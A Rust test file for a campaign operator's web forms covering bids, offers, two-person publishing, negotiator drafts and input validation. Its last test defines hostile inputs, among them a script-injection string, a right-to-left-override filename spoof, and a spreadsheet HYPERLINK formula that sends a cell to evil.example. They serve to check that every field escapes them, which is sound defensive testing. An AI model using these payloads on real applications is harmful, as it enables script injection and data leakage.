//! Campaigns by forms of the operator's page: made and changed, bids recorded and compared, and an offer published of one. The rules are those
//! of the files.

use crate::operator_page::{CHANGED, act, asked_form, audit, press, signed_in};
use crate::prelude::*;
use crate::reward_commands::{CAMPAIGN, done};

const HERE: &str = "/operator/campaigns/internet-sample";

type Fields<'a> = Vec<(&'a str, &'a str)>;

/// The fields, with some of them replaced or added.
fn with<'a>(fields: &[(&'a str, &'a str)], more: &[(&'a str, &'a str)]) -> Fields<'a> {
    let kept = fields.iter().filter(|(name, _)| !more.iter().any(|(other, _)| other == name));
    kept.chain(more).copied().collect()
}

/// The page with what was escaped as somebody reads it.
fn told(html: &str) -> String {
    [("&#60;", "<"), ("&#62;", ">"), ("&#34;", "\""), ("&#39;", "'"), ("&#38;", "&")]
        .iter()
        .fold(html.to_owned(), |text, (written, read)| text.replace(written, read))
}

async fn gathering() -> Server {
    gathering_with(&[]).await
}

async fn gathering_with(flags: &[&str]) -> Server {
    let address = "--postal-address=12 Mill Street, Springfield, IL 62701";
    let server = Server::start_with(&[&[address, "--mail", "hold"], flags].concat());
    std::fs::write(server.data().with_file_name("campaign.toml"), server.run(&["campaigns", "sample"])).unwrap();
    done(&server, &["campaigns", "new", "campaign.toml"]);
    done(&server, &["campaigns", "open", CAMPAIGN, address]);
    server
}

/// A day that lies ahead as long as the sample's.
fn day(server: &Server, days: i64) -> String {
    let sample = server.run(&["campaigns", "sample", "--bid"]);
    let until = sample.split("valid_until = ").nth(1).unwrap()[..10].parse::<jiff::civil::Date>().unwrap();
    until.checked_add(jiff::Span::new().days(days)).unwrap().to_string()
}

const BID: [(&str, &str); 8] = [
    ("supplier", "Example Fiber"),
    ("steps.1.price.cents", "48"),
    ("per", "month"),
    ("term_months", "12"),
    ("exit_fee_cents", "0"),
    ("commission_cents", "25"),
    ("fees.1.unit", "dollars"),
    ("fees.1.per", "month"),
];

#[tokio::test(flavor = "multi_thread")]
async fn a_bid_is_typed_into_a_form_and_compared() {
    let server = gathering().await;
    let mut ana = signed_in(&server, "ana", 1).await;
    let (form, until) = (format!("{HERE}/bid"), day(&server, 0));
    let link = format!("href=\"{form}\"");
    assert!(page(&ana.get(HERE).await, 200, "No bid is recorded.").contains(&link));
    page(&ana.get(&form).await, 200, "Record a bid");
    // All mistakes at once, in the words of the form, and nothing that was typed is lost.
    let wrong = with(
        &BID,
        &[
            ("supplier", ""),
            ("steps.1.price.cents", "forty"),
            ("term_months", "600"),
            ("commission_cents", ""),
            ("fees.2.name", "modem"),
            ("fees.2.amount", "5 dollars"),
            ("fees.2.unit", "dollars"),
            ("fees.2.per", "month"),
            ("states", "ca, XX"),
            ("valid_until", "2027-02-30"),
            ("evidence", "We can do <b>$48</b>."),
        ],
    );
    let refused = told(&page(&act(&mut ana, &form, &wrong).await, 400, "Nothing was saved"));
    for mistake in [
        "Supplier: it is missing; write a text of 1 to 100 characters",
        "Price in dollars: write an amount in dollars up to 10,000,000, such as 48 or 48.50",
        "Amount (fee 2): write an amount in dollars",
        "Term in months: write a whole number from 0 to 360",
        "The union gets for each switch, in dollars: it is missing; write an amount in dollars",
        "Only in these states: \"XX\" is not the code of a state; write two-letter codes, such as CA, OR",
        "Valid until: write a day, such as 2027-01-31",
    ] {
        assert!(refused.contains(mistake), "{mistake}: {refused}");
    }
    for typed in
        ["value=\"forty\"", "value=\"5 dollars\"", "value=\"ca, XX\"", "value=\"2027-02-30\"", "We can do <b>$48</b>."]
    {
        assert!(refused.contains(typed), "{typed}: {refused}");
    }
    assert_eq!(server.number("SELECT count(*) FROM campaign_bids"), 0);

    let good = with(
        &BID,
        &[("valid_until", &until), ("evidence", "We can do <b>$48</b>.\nTake it."), ("fees.3.unit", "percent")],
    );
    let asked = page(&act(&mut ana, &form, &good).await, 200, "Record this bid?");
    holds(
        &asked,
        &["$576 a year", "About $240 a year".to_lowercase().as_str(), "within", "12 months", "kept for good"],
    );
    assert!(!asked.contains("<b>$48"), "{asked}");
    assert_eq!(server.number("SELECT count(*) FROM campaign_bids"), 0, "asking records nothing");
    let again = page(&act(&mut ana, &form, &with(&good, &[("change", "yes")])).await, 200, "Record a bid");
    assert!(again.contains("value=\"Example Fiber\"") && again.contains("Take it."), "{again}");
    let sure = with(&good, &[("sure", "yes")]);
    page(&act(&mut ana, &form, &sure).await, 200, "Bid 1 of internet-sample is recorded.");

    // Steps, fees and conditions; a percentage is of the price.
    let second = with(
        &good,
        &[
            ("supplier", "Other Net"),
            ("steps.1.price.cents", "$20.00"),
            ("steps.2.from_month", "4"),
            ("steps.2.price.cents", "90"),
            ("fees.1.name", "service"),
            ("fees.1.amount", "2.5%"),
            ("fees.1.unit", "percent"),
            ("term_months", "24"),
            ("states", "CA"),
            ("new_customers_only", "yes"),
            ("needs_members", "500"),
            ("evidence", ""),
            ("sure", "yes"),
        ],
    );
    page(&act(&mut ana, &form, &second).await, 200, "Bid 2 of");
    page(&act(&mut ana, &form, &with(&sure, &[("steps.1.price.cents", "47.50")])).await, 200, "Bid 3 of");
    let html = page(&ana.get(HERE).await, 200, "Superseded bids");
    let (standing, superseded) = html.split_once("Superseded bids").unwrap();
    let at = |text: &str| standing.find(text).unwrap_or_else(|| panic!("{text}: {standing}"));
    assert!(at("bid 3</span>") < at("bid 2</span>"), "the cheapest first");
    assert!(!standing.contains("bid 1</span>") && superseded.contains("bid 1</span>"));
    holds(
        standing,
        &[
            "$570 a year",
            "$20 a month, $90 a month from month 4; service: 2.5% of the price a month",
            "only in CA",
            "only for new customers",
            "needs 500 members",
            "its term is 24 months, and the longest is 12 months",
            "it saves nothing against the benchmark",
            "offer?bid=3",
        ],
    );
    assert!(!superseded.split("id=\"drafts\"").next().unwrap().contains("offer?bid="), "{superseded}");
    // The same as a command records.
    let bids = server.json(&["campaigns", "bids", CAMPAIGN, "--json"]);
    assert_eq!((&bids[0]["number"], &bids[0]["allInCents"]), (&3.into(), &57_000.into()));
    assert_eq!(bids[1]["bid"]["fees"], serde_json::json!([{ "name": "service", "basis_points": 250, "per": "month" }]));
    assert_eq!(bids[1]["bid"]["needs_members"], 500);
    let acts: Vec<_> = audit(&server).into_iter().filter(|(_, command, _)| command == "campaigns bid").collect();
    assert_eq!(acts.len(), 3);
    assert!(acts.iter().all(|(who, _, about)| (who.as_str(), about.as_str()) == ("ana (page)", CAMPAIGN)), "{acts:?}");
}

fn offer_fields<'a>(decide_by: &'a str) -> Fields<'a> {
    vec![
        ("bid", "1"),
        ("decide_by", decide_by),
        ("complaints", "help@fiber.example"),
        ("text.en.how", "They email you a code.\nOrder with it."),
        ("text.es.how", "Te mandan una clave."),
        ("text.es.details", "La instalación es gratis."),
        ("note", "by vote"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn an_offer_is_published_of_a_bid_and_what_is_unusual_is_signed() {
    let server = gathering().await;
    let mut ana = signed_in(&server, "ana", 1).await;
    let (form, until) = (format!("{HERE}/offer"), day(&server, -1));
    let bid = with(&BID, &[("valid_until", &until), ("term_months", "24"), ("sure", "yes")]);
    page(&act(&mut ana, &format!("{HERE}/bid"), &bid).await, 200, "Bid 1 of");
    page(&ana.get(&format!("{form}?bid=1")).await, 200, "Bid 1 of Example Fiber: $576 a year");
    for wrong in ["", "?bid=2", "?bid=x"] {
        page(&ana.get(&format!("{form}{wrong}")).await, 404, "No such bid");
    }
    let late = day(&server, 1);
    let wrong = with(&offer_fields(&late), &[("complaints", "call us"), ("open_until", "soon")]);
    let refused = told(&page(&act(&mut ana, &form, &wrong).await, 400, "Nothing was saved"));
    for mistake in ["Open to others until: write a day, such as", "Complaints go to: write an email address"] {
        assert!(refused.contains(mistake), "{mistake}: {refused}");
    }
    holds(&refused, &["value=\"call us\"", "value=\"soon\"", "Te mandan una clave."]);
    let wrong = told(&page(&act(&mut ana, &form, &offer_fields(&late)).await, 400, "Nothing was saved"));
    assert!(wrong.contains(&format!("Members decide by: bid 1 is valid until <time datetime=\"{until}\">")), "{wrong}");

    // Everything that members will read, in each language, and what has to be signed.
    let good = with(&offer_fields(&until), &[("text.en.details", "Free for 9 weeks.")]);
    let asked = page(&act(&mut ana, &form, &good).await, 200, "Publish this offer of internet-sample?");
    holds(
        &told(&asked),
        &[
            "English", "Español", "$576 a year", "$576 al año", "They email you a code.", "La instalación es gratis.",
            "help@fiber.example", "its term is 24 months, and the longest is 12 months",
            "text.en.details: 9 is none of the offer's numbers", "Why publish it all the same?",
        ],
    );
    let sure = with(&good, &[("sure", "yes"), ("outside-mandate", "the board agreed")]);
    let unsigned = page(&act(&mut ana, &form, &sure).await, 400, "Nothing was done");
    holds(&unsigned, &["Why are these figures right? – write the reason", "value=\"the board agreed\""]);
    assert_eq!(server.rows("SELECT state FROM campaigns")[0][0], "gathering");
    let stale = asked_form(&mut ana, &form, &good).await;
    let signed = with(&sure, &[("figures-checked", "weeks, not dollars")]);
    page(&act(&mut ana, &form, &with(&signed, &[("decide_by", "2020-01-01")])).await, 400, "is over");
    page(&act(&mut ana, &form, &signed).await, 200, "The offer of Example Fiber is published");
    // It can be replaced until the deal starts, by another one.
    page(&press(&mut ana, &form, &stale).await, 200, "acceptances stand");
    page(&ana.get(&format!("{form}?bid=1")).await, 200, "Make an offer of this bid");
    let history = &server.rows("SELECT who, note FROM campaign_history WHERE to_state = 'offered'")[0];
    assert_eq!(history[0], "ana (page)");
    for part in [
        "by vote. outside the mandate, the board agreed: its term",
        "figures checked, weeks, not dollars: text.en.details",
    ] {
        assert!(history[1].contains(part), "{part}: {history:?}");
    }
    holds(
        &page(&ana.get(HERE).await, 200, "The published offer"),
        &["They email you a code.", "La instalación es gratis."],
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn one_person_makes_a_draft_of_an_offer_and_another_publishes_it() {
    let server = gathering_with(&["--two-people"]).await;
    let (mut ana, mut ben) = (signed_in(&server, "ana", 1).await, signed_in(&server, "ben", 2).await);
    let (form, until) = (format!("{HERE}/offer"), day(&server, -1));
    let bid = with(&BID, &[("valid_until", &until), ("sure", "yes")]);
    page(&act(&mut ana, &format!("{HERE}/bid"), &bid).await, 200, "Bid 1 of");
    let offer = offer_fields(&until);
    page(&act(&mut ana, &form, &offer).await, 200, "Keep this offer of internet-sample as a draft?");
    let sure = with(&offer, &[("sure", "yes")]);
    page(&act(&mut ana, &form, &sure).await, 200, "kept as draft 1 of internet-sample, under your name");
    let state = |server: &Server| server.rows("SELECT state FROM campaigns").remove(0).remove(0);
    assert_eq!(state(&server), "gathering", "nothing is published");
    // She cannot be the other person: by the form, by the draft, or under her name in a shell.
    page(&act(&mut ana, &form, &sure).await, 400, "another person has to publish it");
    let publish = [("step", "offer"), ("draft", "1"), ("sure", "yes")];
    page(&act(&mut ana, HERE, &publish).await, 400, "draft 1 of internet-sample");
    assert!(
        !page(&ana.get(HERE).await, 200, "Draft 1")
            .contains("name=\"draft\" value=\"1\"><input type=\"hidden\" name=\"step\"")
    );
    page(&ben.get("/operator").await, 200, "a draft of internet-sample");
    // A change makes another draft.
    let changed = with(&sure, &[("text.es.how", "Te mandan un código.")]);
    page(&act(&mut ben, &form, &changed).await, 200, "kept as draft 2 of internet-sample");
    page(&act(&mut ben, HERE, &publish).await, 200, "is published");
    assert_eq!(state(&server), "offered");
    // Commands follow it. What improves an offer takes two people, too.
    std::fs::write(server.data().with_file_name("offer.toml"), server.run(&["campaigns", "sample", "--offer"]))
        .unwrap();
    let said = done(&server, &["campaigns", "offer", CAMPAIGN, "--bid", "1", "offer.toml"]);
    assert!(said.contains("kept as draft 3") && said.contains("campaigns offer internet-sample --draft 3"), "{said}");
    let refused = server.try_run(&["campaigns", "offer", CAMPAIGN, "--draft", "3"]);
    assert!(String::from_utf8(refused.stderr).unwrap().contains("draft 3 of internet-sample's offer is your own"));
    let third = [("step", "offer"), ("draft", "3"), ("sure", "yes")];
    let found = String::from_utf8(server.try_run(&["doctor"]).stdout).unwrap();
    assert!(found.contains("2 drafts of internet-sample's offer wait for you"), "{found}");
    page(&act(&mut ana, HERE, &third).await, 200, "is published");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_step_waits_for_is_told_before_it_is_tried() {
    let server = gathering().await;
    let mut ana = signed_in(&server, "ana", 1).await;
    let until = day(&server, 0);
    let bid = with(&BID, &[("valid_until", &until), ("needs_members", "500"), ("sure", "yes")]);
    page(&act(&mut ana, &format!("{HERE}/bid"), &bid).await, 200, "Bid 1 of");
    let sure = with(&offer_fields(&until), &[("sure", "yes")]);
    page(&act(&mut ana, &format!("{HERE}/offer"), &sure).await, 200, "is published");
    let waits = page(&ana.get(HERE).await, 200, "The deal can start once 500 members have accepted. 0 have.");
    assert!(!waits.contains("The deal has started…") && waits.contains("Cancel the campaign…"), "{waits}");
}

fn campaign_fields<'a>(until: &'a str, today: &'a str) -> Fields<'a> {
    vec![
        ("slug", "cards-2099"),
        ("category", "credit_card_debt"),
        ("gather_until", until),
        ("text.en.title", "Card debt"),
        ("text.en.summary", "One rate."),
        ("text.es.title", "Deuda"),
        ("text.es.summary", "Una tasa."),
        ("benchmark.form", "loan"),
        ("benchmark.amount", "6,000"),
        ("benchmark.percent", "21.99"),
        ("benchmark.per", "month"),
        ("benchmark.source", "Survey"),
        ("benchmark.source.es", "Encuesta"),
        ("benchmark.url", "https://survey.example"),
        ("benchmark.date", today),
        ("mandate.target_cents", "900"),
        ("mandate.walk_away_cents", "1000"),
        ("mandate.longest_term_months", "12"),
        ("mandate.most_exit_fee_cents", "0"),
        ("mandate.most_commission_cents", "0"),
        ("mandate.suppliers", "First Bank\r\nSecond Bank"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_campaign_is_made_and_changed_by_a_form() {
    let address = "--postal-address=12 Mill Street, Springfield, IL 62701";
    let server = Server::start_with(&[address, "--mail", "hold"]);
    let mut ana = signed_in(&server, "ana", 1).await;
    let (new, here) = ("/operator/new-campaign", "/operator/campaigns/cards-2099");
    let edit = format!("{here}/edit");
    let until = day(&server, 0);
    let today = server.run(&["campaigns", "sample"]).split("date = ").nth(1).unwrap()[..10].to_owned();
    assert!(page(&ana.get("/operator/campaigns").await, 200, "Make a campaign…").contains(new));
    page(&ana.get(new).await, 200, "A new campaign");
    let good = campaign_fields(&until, &today);
    let wrong = with(
        &good,
        &[
            ("slug", "Cards 2099"),
            ("gather_until", ""),
            ("text.es.title", ""),
            ("benchmark.percent", ""),
            ("benchmark.source", ""),
            ("benchmark.url", "survey.example"),
            ("mandate.walk_away_cents", "800"),
            ("mandate.longest_term_months", ""),
            ("reviewed.by", "Ada Bell, counsel"),
            ("reviewed.note", "Looked at <script>all</script> of it."),
        ],
    );
    let refused = told(&page(&act(&mut ana, new, &wrong).await, 400, "Nothing was saved"));
    for mistake in [
        "Slug: write 3 to 60 lower-case letters",
        "Gathers until: it is missing; write a day",
        "Title (Español): it is missing",
        "Percent: write a percentage up to 100, such as 6.49",
        "Source: it is missing; write a text of 1 to 200 characters",
        "Where to look it up: write a web address that begins with https://",
        "Walk away above: it must not be below “Target, dollars a year”",
        "Longest term, months: it is missing; write a whole number",
        "On: it is missing; write a day",
        "What was looked at: it says nothing of the commission",
    ] {
        assert!(refused.contains(mistake), "{mistake}: {refused}");
    }
    for typed in ["value=\"Cards 2099\"", "Second Bank", "value=\"800\"", "Looked at <script>all</script> of it."] {
        assert!(refused.contains(typed), "{typed}: {refused}");
    }
    page(&act(&mut ana, new, &good).await, 200, "The draft cards-2099 is ready.");
    let taken = told(&page(&act(&mut ana, new, &good).await, 400, "Nothing was saved"));
    assert!(taken.contains("Slug: there is already a campaign cards-2099; choose another"), "{taken}");

    // What the law rules is not opened without its review, and the page says so first.
    let shown = page(&ana.get(here).await, 200, "It cannot be opened without its review");
    assert!(
        !shown.contains("Open it to members…") && shown.contains("walk away above $1,000 (only for you)"),
        "{shown}"
    );
    page(&act(&mut ana, here, &[("step", "open"), ("sure", "yes")]).await, 400, "nobody has signed");
    let form = page(&ana.get(&edit).await, 200, "Change the campaign");
    holds(
        &form,
        &[
            "value=\"21.99\"", "value=\"6000\"", "value=\"Survey\"", "value=\"Encuesta\"", "First Bank\nSecond Bank",
            "name=\"seen\" value=\"1\"",
        ],
    );
    assert!(!form.contains("name=\"slug\""), "the slug stays");
    let reviewed = with(
        &good,
        &[
            ("slug", "another"),
            ("seen", "1"),
            ("reviewed.by", "Ada Bell, counsel"),
            ("reviewed.on", &today),
            ("reviewed.note", "No commission, no address is handed over, no reward depends on buying."),
        ],
    );
    page(&act(&mut ana, &edit, &reviewed).await, 200, "The draft cards-2099 is changed.");
    // Somebody else changed it since this form was opened: nothing is overwritten, nothing typed is lost.
    let stale = with(&reviewed, &[("text.en.title", "Mine")]);
    let again = page(&act(&mut ana, &edit, &stale).await, 400, "It was changed meanwhile.");
    holds(&again, &["value=\"Mine\"", "name=\"seen\" value=\"2\""]);
    page(&act(&mut ana, &edit, &with(&reviewed, &[("seen", "2")])).await, 200, "nothing of cards-2099 was changed");
    page(&act(&mut ana, here, &[("step", "open"), ("sure", "yes")]).await, 200, "is gathering");

    // What members counted on stays, whatever is sent.
    let form = page(&ana.get(&edit).await, 200, "What they counted on stays as it is.");
    assert!(!form.contains("name=\"category\"") && !form.contains("name=\"states\""), "{form}");
    let later =
        with(&reviewed, &[("seen", "3"), ("category", "internet"), ("states", "CA"), ("text.en.title", "Better")]);
    page(&act(&mut ana, &edit, &later).await, 200, "The pages show it within two seconds.");
    let shown = server.json(&["campaigns", "show", "cards-2099", "--json"]);
    assert_eq!((&shown["category"], &shown["state"]), (&"credit_card_debt".into(), &"gathering".into()), "{shown}");
    page(&ana.get(here).await, 200, "Better");

    // A bid of a loan: its balance is the benchmark's.
    let bid = [
        ("supplier", "First Bank"),
        ("steps.1.price.apr_basis_points", "12.99"),
        ("fees.1.name", "processing"),
        ("fees.1.amount", "3"),
        ("fees.1.unit", "percent"),
        ("fees.1.per", "once"),
        ("term_months", "0"),
        ("exit_fee_cents", "0"),
        ("commission_cents", "0"),
        ("valid_until", &until),
    ];
    let form = format!("{here}/bid");
    holds(&page(&ana.get(&form).await, 200, "On a balance of $6,000"), &["APR in percent"]);
    let without =
        told(&page(&act(&mut ana, &form, &with(&bid, &[("steps.1.price.apr_basis_points", "")])).await, 400, ""));
    assert!(without.contains("APR in percent: write a percentage up to 100"), "{without}");
    let asked = page(&act(&mut ana, &form, &bid).await, 200, "Record this bid?");
    holds(&asked, &["$959.40 a year", "about $360 a year", "12.99% APR on a balance of $6,000"]);
    let commands: Vec<_> =
        audit(&server).into_iter().filter(|(who, ..)| who == "ana (page)").map(|row| row.1).collect();
    assert_eq!(commands, ["page sign-in", "campaigns new", "campaigns edit", "campaigns open", "campaigns edit"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_answers_the_negotiator() {
    let server = gathering().await;
    let mut ana = signed_in(&server, "ana", 1).await;
    let until = day(&server, 0);
    let bid = with(&BID, &[("valid_until", &until), ("sure", "yes")]);
    page(&act(&mut ana, &format!("{HERE}/bid"), &bid).await, 200, "Bid 1 of");
    let draft = format!("bid = 1\n{}", server.run(&["campaigns", "sample", "--offer"])).replace('\'', "''");
    for n in 1..=2 {
        server.execute(&format!(
            "INSERT INTO campaign_offer_drafts (campaign_id, at, client, seat, exception, offer)
             VALUES (1, {n}, 'Claude', 'table', 'why <b>not</b>', '{draft}')"
        ));
    }
    let shown = page(&ana.get(HERE).await, 200, "Reject draft 2…");
    assert!(told(&shown).contains("why <b>not</b>") && !shown.contains("<b>not"), "{shown}");

    // A draft is answered once, with a reason.
    let reject = format!("{HERE}/draft");
    page(&act(&mut ana, &reject, &[("number", "2")]).await, 200, "Reject draft 2 of internet-sample?");
    let unsaid = [("number", "2"), ("sure", "yes"), ("reason", " ")];
    page(&act(&mut ana, &reject, &unsaid).await, 400, "Why? – write the reason");
    assert_eq!(server.number("SELECT count(*) FROM campaign_draft_answers"), 0);
    let sure = [("number", "2"), ("sure", "yes"), ("reason", "too <i>dear</i>")];
    page(&act(&mut ana, &reject, &sure).await, 200, "Draft 2 of internet-sample is rejected.");
    page(&act(&mut ana, &reject, &sure).await, 400, "Draft 2 was rejected at");
    page(&act(&mut ana, &reject, &[("number", "3"), sure[1], sure[2]]).await, 400, "no such draft");
    let shown = page(&ana.get(HERE).await, 200, "Publish draft 1…");
    assert!(!shown.contains("Publish draft 2…") && !shown.contains("Reject draft 2…"), "{shown}");
    assert!(told(&shown).contains("by ana (page): \"too <i>dear</i>\""), "{shown}");
    page(&act(&mut ana, HERE, &[("step", "offer"), ("draft", "2")]).await, 400, "Draft 2 was rejected");

    // A round by hand, blanked when it should not have been there.
    let round = format!("{HERE}/round");
    page(&ana.get(&round).await, 200, "Record a round");
    let wrong = [("supplier", ""), ("asked", "a\u{202e}b"), ("answered", "We can do <b>$48</b>.")];
    let refused = told(&page(&act(&mut ana, &round, &wrong).await, 400, "Nothing was saved"));
    holds(
        &refused,
        &[
            "Supplier: write 1 to 4000 characters", "What they were asked: write 1 to 4000 characters",
            "We can do <b>$48</b>.", "aU+202Eb",
        ],
    );
    let named = [("supplier", "Example Fiber"), ("asked", "$45?"), ("answered", "Write to jo@fiber.example.")];
    let refused = told(&page(&act(&mut ana, &round, &named).await, 400, "Nothing was saved"));
    assert!(refused.contains("What they answered: it has an email address in it; leave that out"), "{refused}");
    let good =
        [("supplier", "Example Fiber"), ("asked", "$45?\r\nFor 12 months."), ("answered", "We can do <b>$48</b>.")];
    page(&act(&mut ana, &round, &good).await, 200, "Round 1 of internet-sample is recorded.");
    let shown = page(&ana.get(HERE).await, 200, "$45?\nFor 12 months.");
    assert!(!shown.contains("<b>$48") && told(&shown).contains("We can do <b>$48</b>."), "{shown}");
    let redact = format!("{HERE}/redact");
    page(&act(&mut ana, &redact, &[("number", "1")]).await, 200, "Blank round 1 of internet-sample?");
    let sure = [("number", "1"), ("sure", "yes"), ("reason", "a name")];
    page(&act(&mut ana, &redact, &sure).await, 200, "Round 1 of internet-sample is blanked.");
    page(&act(&mut ana, &redact, &sure).await, 400, "was blanked at");
    let shown = page(&ana.get(HERE).await, 200, "by ana (page): a name");
    assert!(!shown.contains("$45?"), "{shown}");

    // Words for it, and a pause here and of all.
    let say = format!("{HERE}/say");
    let long = "w".repeat(1001);
    let refused =
        page(&act(&mut ana, &say, &[("message", &long)]).await, 400, "Your words: write 1 to 1000 characters");
    assert!(refused.contains(&long), "{refused}");
    leads(&act(&mut ana, &say, &[("message", "Ask for <b>no</b> fee.")]).await, &format!("{HERE}#negotiator"));
    assert!(told(&page(&ana.get(HERE).await, 200, "no")).contains("Ask for <b>no</b> fee."));
    for (at, back) in [(format!("{HERE}/negotiator"), HERE), ("/operator/negotiator".to_owned(), "/operator/campaigns")]
    {
        page(&act(&mut ana, &at, &[("act", "pause")]).await, 200, "Pause the negotiator of");
        let sure = [("act", "pause"), ("sure", "yes"), ("reason", "it <i>repeats</i> itself")];
        leads(&act(&mut ana, &at, &sure).await, back);
        let shown = page(&ana.get(back).await, 200, "It is paused");
        assert!(told(&shown).contains("by ana (page): it <i>repeats</i> itself"), "{shown}");
        for _ in 0..2 {
            leads(&act(&mut ana, &at, &[("act", "resume")]).await, back);
        }
        assert!(!page(&ana.get(back).await, 200, "</html>").contains("It is paused"));
    }
    let acts: Vec<_> = audit(&server).into_iter().filter(|(who, ..)| who == "ana (page)").skip(2).collect();
    let acts: Vec<_> = acts.iter().map(|(_, command, about)| (command.as_str(), about.as_str())).collect();
    let expected = [
        ("campaigns drafts reject", "internet-sample, draft 2"),
        ("campaigns round", CAMPAIGN),
        ("campaigns rounds redact", "internet-sample, round 1"),
        ("campaigns say", CAMPAIGN),
        ("negotiator pause", CAMPAIGN),
        ("negotiator resume", CAMPAIGN),
        ("negotiator pause", "all campaigns"),
        ("negotiator resume", "all campaigns"),
    ];
    assert_eq!(acts, expected);
    let sure = [("step", "offer"), ("draft", "1"), ("sure", "yes")];
    page(&act(&mut ana, HERE, &sure).await, 200, "is published");
    page(&ana.get(HERE).await, 200, "It was published at");
}

/// Markup, what turns a line around, a formula, and as long as it may be.
const HOSTILE: [&str; 4] = [
    "\"><script>alert(1)</script>", "paid\u{202e}gpj.exe", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
    "</textarea><b>",
];

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_are_texts_in_every_field() {
    let server = gathering().await;
    let mut ana = signed_in(&server, "ana", 1).await;
    let (until, long) = (day(&server, 0), "w".repeat(4000));
    let forms = [
        (format!("{HERE}/bid"), ""),
        (format!("{HERE}/offer"), "1"),
        ("/operator/new-campaign".to_owned(), ""),
        (format!("{HERE}/edit"), ""),
    ];
    let bid = with(&BID, &[("valid_until", &until), ("sure", "yes")]);
    page(&act(&mut ana, &forms[0].0, &bid).await, 200, "Bid 1 of");
    for (form, bid) in &forms {
        let shown = page(&ana.get(&format!("{form}?bid={bid}")).await, 200, "<form");
        let names: Vec<_> =
            shown.split(" name=\"").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned()).collect();
        assert!(names.len() > 7, "{names:?}");
        for text in HOSTILE.into_iter().chain([long.as_str()]) {
            let fields: Fields<'_> = names
                .iter()
                .filter(|name| !["token", "bid", "seen"].contains(&name.as_str()))
                .map(|name| (name.as_str(), text))
                .chain([("bid", *bid)])
                .collect();
            // Of 4,000 characters in each field the whole is too long.
            let fields =
                if text.len() < 4000 { fields } else { with(&fields[..6], &[("evidence", text), ("bid", bid)]) };
            let html = page(&act(&mut ana, form, &fields).await, 400, "Nothing was saved");
            for never in ["<script>alert", "\u{202e}", "</textarea><b>"] {
                assert!(!html.contains(never), "{form}: {never:?}");
            }
            assert!(told(&html).contains(&text.replace('\u{202e}', "U+202E")), "{form}: {text} is lost: {html}");
        }
    }
    // Recorded, too.
    for (n, text) in [HOSTILE[0], HOSTILE[2], HOSTILE[3], long.as_str()].into_iter().enumerate() {
        let name = format!("{n} {}", &text[..text.len().min(90)]);
        let fields = with(&bid, &[("supplier", &name), ("evidence", text)]);
        page(&act(&mut ana, &forms[0].0, &fields).await, 200, "is recorded");
        let html = page(&ana.get(HERE).await, 200, "Bids");
        assert!(!html.contains("<script") && !html.contains("<b>"), "{text}");
        assert!(told(&html).contains(text), "{text}");
    }
    let asked = asked_form(&mut ana, HERE, &[("step", "negotiate")]).await;
    done(&server, &["campaigns", "negotiate", CAMPAIGN]);
    page(&press(&mut ana, HERE, &asked).await, 400, "Nothing was done");
    assert!(!CHANGED.is_empty());
}
